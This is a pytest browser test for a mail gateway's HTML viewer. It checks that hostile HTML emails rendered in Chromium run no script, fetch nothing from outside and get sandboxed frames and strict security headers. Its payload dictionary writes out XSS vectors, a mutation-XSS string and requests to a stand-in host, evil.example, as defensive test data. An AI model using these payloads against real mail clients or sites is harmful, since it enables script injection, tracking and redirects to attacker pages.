# ruff: noqa: E501 (hostile HTML, one case a line)
"""Hostile HTML mails opened in the page by a real Chromium: nothing runs, nothing leaves, nothing covers our page."""

import json
import re
from pathlib import Path

import pytest
from parley.tests.gateway import BUYER, SELLER, Running
from parley.tests.times import LIMIT
from parley.tests.window import CHROMIUM, link
from playwright.async_api import Browser, BrowserContext, Page

pytestmark = [
    pytest.mark.browser,
    pytest.mark.skipif(not CHROMIUM.exists(), reason="needs Debian's chromium at /usr/bin/chromium"),
]

DATA = Path(__file__).resolve().parents[2].parent / "shared" / "data" / "hostile" / "html.json"

# Kinds of our own: each would call P(), fetch from outside, send a form, or lie over the page.
OWN = {
    "script": "<script>P()</script><img src=x onerror=P()>",
    "handlers": "<details open ontoggle=P()>x</details><input autofocus onfocus=P()><marquee onstart=P()>m</marquee>",
    "links": '<a href="javascript:P()">j</a><a href="data:text/html,<script>P()</script>">d</a><a href="//evil.example">e</a>',
    "meta": '<meta http-equiv="refresh" content="0;url=https://evil.example/">',
    "base": '<base href="https://evil.example/"><img src="x.gif"><form action="login"><input name=a><button>go</button></form>',
    "css": '<style>@import "https://evil.example/a.css";body{background:url(https://evil.example/b.gif)}</style>',
    "inline style": '<div style="background:url(https://evil.example/c.gif);position:fixed;inset:0;z-index:9">cover</div>',
    "fonts": "<style>@font-face{font-family:x;src:url(https://evil.example/f)}*{font-family:x}</style>",
    "pictures": '<img src="https://evil.example/p.gif"><img srcset="https://evil.example/q.gif 1x"><picture><source srcset="https://evil.example/r.gif"></picture>',
    "media": '<video src="https://evil.example/v" poster="https://evil.example/w"></video><audio src="https://evil.example/x"></audio>',
    "frames": '<iframe src="https://evil.example/"></iframe><iframe srcdoc="<script>parent.P()</script>"></iframe><object data="https://evil.example/"></object><embed src="https://evil.example/">',
    "svg": '<svg onload=P()><image href="https://evil.example/i.svg"/><foreignObject><script>P()</script></foreignObject></svg>',
    "math": '<math><mtext><table><mglyph><style><!--</style><img title="--&gt;&lt;img src=1 onerror=P()&gt;">',
    "links to load": '<link rel="stylesheet" href="https://evil.example/l.css"><link rel="prefetch" href="https://evil.example/m"><link rel="dns-prefetch" href="//evil.example">',
    "ping": '<a href="https://evil.example/" ping="https://evil.example/ping" target="_top">ping</a>',
    "template markers": "{{ 7 * 7 }} {% raw %} ${7*7} <%= 7 %>",
    "out of the frame": "</body></html></iframe></article><script>P()</script><div id=main>",
    "ids": '<form id="reply"><input name="key"><img name="getElementById" id="live">',
}


def theirs() -> dict[str, str]:
    """The HTML of the data set, where it is there."""
    return {one["id"]: one["html"] for one in json.loads(DATA.read_text(encoding="utf-8"))} if DATA.exists() else {}


def html_mail(sender: str, to: str, html: str, number: int) -> bytes:
    head = f"From: {sender}\r\nTo: {to}\r\nSubject: Re: Price {number}\r\nMessage-ID: <h{number}@werk.example>\r\n"
    body = html.replace("\r\n", "\n").replace("\n", "\r\n")
    return f"{head}MIME-Version: 1.0\r\nContent-Type: text/html; charset=utf-8\r\n\r\n<p>MARK {number}</p>{body}\r\n".encode()


class Watch:
    """Notes all that a page must not do."""

    def __init__(self, origin: str) -> None:
        self.wrong: list[str] = []
        self._origin = origin

    async def over(self, context: BrowserContext) -> Page:
        await context.expose_function("P", lambda *_: self.wrong.append("P() was called"))
        context.on("request", lambda request: self._judge(request.url))
        page = await context.new_page()
        context.on("page", lambda other: self.wrong.append(f"a window opened: {other.url}"))
        page.on("dialog", lambda dialog: self.wrong.append(f"a dialog: {dialog.message}"))
        return page

    def _judge(self, url: str) -> None:
        if not url.startswith((self._origin + "/i/", self._origin + "/c/", self._origin + "/look/", "data:image/")):
            self.wrong.append(f"asked for {url}")


async def open_everything(page: Page) -> None:
    """Unfold all, scroll to each frame so that it is loaded, and try every link that stands in one."""
    await page.evaluate("document.querySelectorAll('details').forEach(one => one.open = true)")
    for frame in await page.locator("iframe").all():
        await frame.scroll_into_view_if_needed()
        await frame.content_frame.locator("body").wait_for(state="attached")


@pytest.mark.timeout(180)
@pytest.mark.parametrize("writer", [SELLER, BUYER])
async def test_nothing_runs_and_nothing_leaves(run: Running, browser: Browser, writer: str) -> None:
    made = await run.open()
    reader, mask = (BUYER, made.masks["buyer"]) if writer == SELLER else (SELLER, made.masks["seller"])
    cases = {**OWN, **theirs()}
    for number, html in enumerate(cases.values()):
        await run.send(writer, mask, html_mail(writer, mask, html, number))
    await run.quiet()  # else a state that changes renews the page while it is looked at
    address = link(run, made, reader)
    origin = address.partition("/c/")[0]
    watch = Watch(origin)
    context = await browser.new_context(viewport={"width": 1280, "height": 900})
    page = await watch.over(context)
    await page.goto(address)
    await open_everything(page)
    sources = [str(await one.get_attribute("src")) for one in await page.locator("iframe").all()]
    sandboxes = [str(await one.get_attribute("sandbox")) for one in await page.locator("iframe").all()]
    assert len(sources) == len(cases)
    assert not any("allow-scripts" in one or "allow-same-origin" in one for one in sandboxes)
    assert "{{ 7 * 7 }}" in await page.locator("body").inner_text()
    for frame in page.frames:  # not until the network is idle: an open page keeps a stream, and may look again
        await frame.wait_for_load_state("load", timeout=LIMIT * 1000)
    for source in sources:  # the same HTML without our frame around it
        await page.goto(origin + source)
        assert await page.evaluate("document.querySelectorAll('script,form,iframe,object,embed,link').length") == 0
    assert page.url.startswith(origin)
    assert watch.wrong == []
    await context.close()


async def test_every_answer_has_its_policy(run: Running) -> None:
    from parley.tests.pages import Visitor

    made = await run.open()
    await run.send(SELLER, made.masks["buyer"], html_mail(SELLER, made.masks["buyer"], "<table><tr><td>1</table>", 1))
    host, port = run.gateway.links_address
    visitor = Visitor(host, port)
    page = await visitor.open(made.links[BUYER])
    links = sorted(set(re.findall(r'(?:href|src)="(/[^"#]+)"', page.text)))
    assert any("/html" in one for one in links)
    for path in [visitor.page_path, *links, "/nowhere"]:
        answer = await visitor.get(path)
        policy = answer.headers["content-security-policy"]
        assert "default-src 'none'" in policy, path
        assert "unsafe-eval" not in policy
        assert "script-src 'unsafe-inline'" not in policy
        assert answer.headers["x-content-type-options"] == "nosniff", path
        assert answer.headers["referrer-policy"] == "no-referrer", path
        if "/m/" in path or "/a/" in path:
            assert "sandbox" in policy
